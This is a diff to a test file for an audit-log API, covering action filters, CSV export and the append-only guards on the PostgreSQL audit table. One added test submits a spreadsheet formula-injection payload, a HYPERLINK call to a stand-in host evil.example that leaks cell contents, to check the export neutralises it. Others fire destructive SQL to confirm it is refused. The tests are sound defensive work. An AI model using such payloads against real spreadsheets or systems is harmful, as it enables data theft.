@@ -1,7 +1,8 @@
 import { randomUUID } from "node:crypto";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { recordStandaloneAudit, systemAuditContext } from "../src/db/audit.ts";
 import { verifyAuditChain } from "../src/server/platform/audit-queries.ts";
-import { recordAudit, systemAuditContext } from "../src/server/plugins/audit.ts";
 import { buildTestApp, type TestApp, withOwnDatabase } from "./helpers/app.ts";
 import { actorWith, buildArea, buildMunicipality } from "./helpers/factories.ts";
 
@@ -114,10 +115,12 @@ describe("GET /api/audit", () => {
     expect(byActor.every((e) => e.actorId === admin.user.id)).toBe(true);
     expect(await list(`actor=nobody-${randomUUID()}`)).toEqual([]);
 
-    const newest = byActor[0]!;
-    expect((await list("limit=1")).map((e) => e.seq)).toEqual([newest.seq]);
-    expect((await list(`before=${newest.seq}`)).map((e) => e.seq)).toEqual(
-      byActor.slice(1).map((e) => e.seq),
+    // Each search is itself recorded, so pages are compared on a filter that excludes searches.
+    const changes = await list("action=organisation.");
+    const newest = changes[0]!;
+    expect((await list("action=organisation.&limit=1")).map((e) => e.seq)).toEqual([newest.seq]);
+    expect((await list(`action=organisation.&before=${newest.seq}`)).map((e) => e.seq)).toEqual(
+      changes.slice(1).map((e) => e.seq),
     );
     const future = new Date(Date.now() + 3_600_000).toISOString();
     expect(await list(`from=${encodeURIComponent(future)}`)).toEqual([]);
@@ -134,6 +137,32 @@ describe("GET /api/audit", () => {
     const res = await get(`/api/audit?${query}`, sysadmin.headers);
     expect(res.statusCode).toBe(400);
     expect(res.json().error.issues.map((i: { path: string }) => i.path)).toContain(path);
+  });
+});
+
+describe("the action filter", () => {
+  it("matches an underscore literally: auth.sign_in finds sign-ins, and only them", async () => {
+    const email = `sign-in-${randomUUID().slice(0, 8)}@nowhere.example`;
+    const login = await t.app.inject({
+      method: "POST",
+      url: "/api/auth/login",
+      payload: { email, password: "wrong-password-here" },
+    });
+    expect(login.statusCode).toBe(401);
+    const res = await get(
+      `/api/audit?action=auth.sign_in&actor=${encodeURIComponent(email)}`,
+      sysadmin.headers,
+    );
+    expect(res.statusCode).toBe(200);
+    expect((res.json() as Entry[]).map((e) => [e.action, e.actorLabel])).toEqual([
+      ["auth.sign_in", email],
+    ]);
+    // The underscore is not a wildcard: "auth.sign?in" is no action prefix that exists.
+    const wildcard = await get(
+      `/api/audit?action=auth.sign%25&actor=${encodeURIComponent(email)}`,
+      sysadmin.headers,
+    );
+    expect(wildcard.json()).toEqual([]);
   });
 });
 
@@ -169,6 +198,27 @@ describe("GET /api/audit/export.csv", () => {
     ]);
   });
 
+  it("neutralises a formula sent as a sign-in name before it reaches a spreadsheet", async () => {
+    const marker = randomUUID().slice(0, 8);
+    const hostile = `=HYPERLINK("http://evil.example/?x=${marker}"&A1,"click")`;
+    const login = await t.app.inject({
+      method: "POST",
+      url: "/api/auth/login",
+      payload: { email: hostile, password: "wrong-password-here" },
+    });
+    expect(login.statusCode).toBe(401);
+    const res = await get(
+      `/api/audit/export.csv?action=auth.sign_in&actor=${marker}`,
+      sysadmin.headers,
+    );
+    expect(res.statusCode).toBe(200);
+    const rows = parse(res.body.replace(/^\uFEFF/, "")) as string[][];
+    expect(rows).toHaveLength(2);
+    const actor = rows[1]![rows[0]!.indexOf("actor")]!;
+    expect(actor).toBe(`'${hostile.toLowerCase()}`);
+    expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
+  });
+
   it("refuses another municipality's log", async () => {
     const municipality = await buildMunicipality(t.db);
     const admin = await actorWith(t, "org_admin", municipality.id);
@@ -180,21 +230,27 @@ describe("GET /api/audit/export.csv", () => {
 
 describe("the audit table in PostgreSQL", () => {
   // Each statement targets a real row (row triggers do not fire for none) inside a transaction
-  // that is rolled back, so the shared log stays whole even if a guard were missing.
+  // that is rolled back, so the shared log stays whole even if a guard were missing. The runtime
+  // role is refused by its grants; the owner, who holds every grant, by the triggers.
   it.each([
     "UPDATE platform.audit_log SET details = '{}' WHERE seq = (SELECT max(seq) FROM platform.audit_log)",
     "DELETE FROM platform.audit_log WHERE seq = (SELECT max(seq) FROM platform.audit_log)",
     "TRUNCATE platform.audit_log",
-  ])("rejects %s", async (statement) => {
+  ])("rejects %s, as the runtime role and as the owner", async (statement) => {
     await buildArea(t.db, (await buildMunicipality(t.db)).id);
-    await recordAudit(t.db, systemAuditContext("test"), { action: "test.row" });
-    const client = await t.pool.connect();
-    try {
-      await client.query("BEGIN");
-      await expect(client.query(statement)).rejects.toThrow(/append-only/);
-    } finally {
-      await client.query("ROLLBACK");
-      client.release();
+    await recordStandaloneAudit(t.db, systemAuditContext("test"), { action: "seed.demo" });
+    for (const [pool, message] of [
+      [t.pool, /permission denied for table audit_log/],
+      [t.owner.pool, /append-only/],
+    ] as const) {
+      const client = await pool.connect();
+      try {
+        await client.query("BEGIN");
+        await expect(client.query(statement)).rejects.toThrow(message);
+      } finally {
+        await client.query("ROLLBACK");
+        client.release();
+      }
     }
   });
 
@@ -211,8 +267,8 @@ describe("DATABASE_READ_URL", () => {
   it("sends the audit log's search and export to the read replica; access is decided on the primary", async () => {
     await withOwnDatabase(async ({ url, db: replica }) => {
       // Stands in for a replica: a database holding one entry the primary does not have.
-      await recordAudit(replica, systemAuditContext("replica-check"), {
-        action: "replica.marker",
+      await recordStandaloneAudit(replica, systemAuditContext("replica-check"), {
+        action: "seed.demo",
         subjectId: "only-on-the-replica",
       });
       const app = await buildTestApp({ DATABASE_READ_URL: url });
@@ -223,12 +279,12 @@ describe("DATABASE_READ_URL", () => {
           headers: admin.headers,
         });
         expect(search.statusCode).toBe(200);
-        expect(search.json().map((e: { action: string }) => e.action)).toEqual(["replica.marker"]);
+        expect(search.json().map((e: { action: string }) => e.action)).toEqual(["seed.demo"]);
         const exported = await app.app.inject({
           url: "/api/audit/export.csv?subjectId=only-on-the-replica",
           headers: admin.headers,
         });
-        expect(exported.body).toContain("replica.marker");
+        expect(exported.body).toContain("seed.demo");
         // The export's own audit row is written to the primary.
         const onPrimary = await app.pool.query(
           "SELECT count(*)::int AS n FROM platform.audit_log WHERE action = 'audit.export' AND actor_id = $1",
